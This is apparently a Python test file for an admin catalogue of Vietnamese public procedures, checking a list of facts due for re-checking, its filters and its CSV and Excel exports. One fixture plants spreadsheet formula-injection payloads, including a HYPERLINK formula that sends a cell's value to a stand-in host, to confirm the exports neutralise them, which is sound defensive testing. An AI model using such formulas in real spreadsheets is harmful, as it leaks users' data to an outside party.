"""The list of facts to look at again: why, filtered, and as tables in which nothing is calculated."""

from __future__ import annotations

import csv
import io
from datetime import date

import httpx
import openpyxl
import pytest
from fastapi import FastAPI
from starlette.datastructures import QueryParams

from admin.catalogue.stock import Stock
from admin.catalogue.to_check import ToCheck, Why, Wish, facts_to_check
from knowledge.fact_edits import FactField
from tests.admin.catalogue.conftest import HALL, names, small
from tests.knowledge import made_up
from tests.knowledge.made_up import BEES, FERRY, procedure

pytestmark = pytest.mark.anyio
TODAY = date(2026, 11, 27)
LIST = "/quan-tri/danh-muc/can-xem"
HOSTILE = '=HYPERLINK("http://xau.example?"&A1,"bấm")'


def found(query: str = "") -> list[ToCheck]:
    return facts_to_check(small(), TODAY, Wish.of(QueryParams(query)))


def test_old_unconfirmed_and_ended_facts_are_told_apart() -> None:
    ferry = procedure(
        FERRY,
        fees=[{"amount": 1, "until": "2026-11-26"}, {"amount": 2, "unconfirmed": True}],
        sources=[{"id": "new", "title": "Mới", "decision": "1/QĐ", "read": "2026-11-20"}],
    )
    given = facts_to_check(made_up.catalogue(ferry), TODAY, Wish())
    assert {one.text.split()[0]: one.reasons for one in given} == {
        "1": (Why.ENDED,),
        "2": (Why.UNCONFIRMED,),
    }


def test_age_counts_from_the_day_on_which_its_own_source_was_read() -> None:
    assert {one.field for one in found()} == {FactField.FEES, FactField.PLACES, FactField.DOCUMENTS}
    assert {one.age for one in found()} == {329}, "the pitfall was read in another source, this month"


@pytest.mark.parametrize(
    ("query", "count"),
    [
        ("", 6),
        ("muc=fees", 2),
        ("vi=chua-chac", 1),
        ("linh-vuc=business", 6),
        ("linh-vuc=land", 0),
        (f"tim={BEES}", 1),
        ("tim=nuoi ong", 1),
        ("ngay=365", 1),
        ("ngay=-1&muc=../x&vi=1&linh-vuc=", 6),
    ],
)
def test_list_is_filtered(query: str, count: int) -> None:
    assert len(found(query)) == count


async def test_page_lists_with_links_to_source_and_procedure(editor: httpx.AsyncClient) -> None:
    page = (await editor.get(f"{LIST}?muc=fees")).text
    assert f'href="/quan-tri/danh-muc/thu-tuc/{FERRY}"' in page
    assert "Xem đã lâu 329 ngày" in page
    assert "bang.xlsx?muc=fees" in page
    assert "bang.csv?muc=fees" in page


@pytest.fixture
def hostile(stock: Stock, app: FastAPI) -> None:
    """Put in a procedure whose texts would be formulas."""
    poisoned = procedure(FERRY, places=HALL, steps=[{"text": HOSTILE}], plain_name="@SUM(1+1)*cmd")
    app.state.stock = Stock(stock.places, names, lambda: made_up.catalogue(poisoned))


@pytest.mark.usefixtures("hostile")
async def test_no_cell_of_the_tables_is_a_formula(editor: httpx.AsyncClient) -> None:
    text = (await editor.get(f"{LIST}/bang.csv")).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert f"'{HOSTILE}" in cells
    assert not [cell for cell in cells if cell[:1] in "=+-@" and cell]
    answer = await editor.get(f"{LIST}/bang.xlsx")
    assert "attachment" in answer.headers["content-disposition"]
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    kinds = {cell.data_type for row in book.worksheets[0].iter_rows() for cell in row}
    assert "f" not in kinds
